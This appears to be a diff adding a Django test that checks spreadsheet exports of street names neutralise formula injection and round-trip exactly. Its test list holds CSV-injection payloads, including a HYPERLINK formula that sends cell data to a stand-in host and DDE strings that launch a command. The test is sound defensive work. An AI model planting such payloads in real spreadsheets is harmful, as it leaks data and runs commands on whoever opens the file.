@@ -179,6 +179,51 @@ def test_the_export_has_the_import_columns_and_imports_back_unchanged(reviewer_c
     assert sheet.max_row == Relic.objects.count() + 1
 
 
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://lua-dao.example/?d="&B2,"Xem ảnh")',
+    "=cmd|' /C calc'!A0",
+    "+84 912 345 678",
+    "-Tổ dân phố 5",  # a real name may start with a dash: it must come back as it was
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=already quoted",
+    "'Ngõ' Chùa",
+    "-257",
+]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_names_that_look_like_formulas_are_exported_as_text_and_import_back_exactly(
+    reviewer_client, tam_thanh, fmt
+):
+    for number, name in enumerate(HOSTILE_NAMES):
+        Street.objects.create(external_id=f"f:{number}", name_vi=name, name_en=name, unit=tam_thanh)
+    exported = reviewer_client.get(reverse("admin:sites_street_export", args=[fmt]))
+    if fmt == "csv":
+        rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
+        cells = [row[column] for row in rows for column in ("name_vi", "name_en")]
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
+        header = [cell.value for cell in sheet[1]]
+        columns = [header.index("name_vi") + 1, header.index("name_en") + 1]
+        found = [
+            sheet.cell(row, column) for row in range(2, sheet.max_row + 1) for column in columns
+        ]
+        assert {cell.data_type for cell in found} == {"s"}  # text, never a formula ("f")
+        cells = [cell.value for cell in found]
+    assert len(cells) == 2 * len(HOSTILE_NAMES)
+    assert not [c for c in cells if c.startswith(("=", "+", "@")) or c.startswith("-T")]
+
+    # Exported and imported back: nothing changed.
+    upload = SimpleUploadedFile(f"streets.{fmt}", exported.content)
+    report = reviewer_client.post(import_url(), {"file": upload}).context["report"]
+    assert report.ok and {row.action for row in report.rows} == {"skip"}
+    # And into an empty database: the very same names.
+    Street.objects.all().delete()
+    preview_and_confirm(reviewer_client, SimpleUploadedFile(f"streets.{fmt}", exported.content))
+    assert sorted(Street.objects.values_list("name_vi", flat=True)) == sorted(HOSTILE_NAMES)
+    assert sorted(Street.objects.values_list("name_en", flat=True)) == sorted(HOSTILE_NAMES)
+
+
 def test_the_sample_file_is_a_valid_import(reviewer_client):
     for model in ("street", "relic", "scenicspot", "person"):
         for fmt in ("csv", "xlsx"):
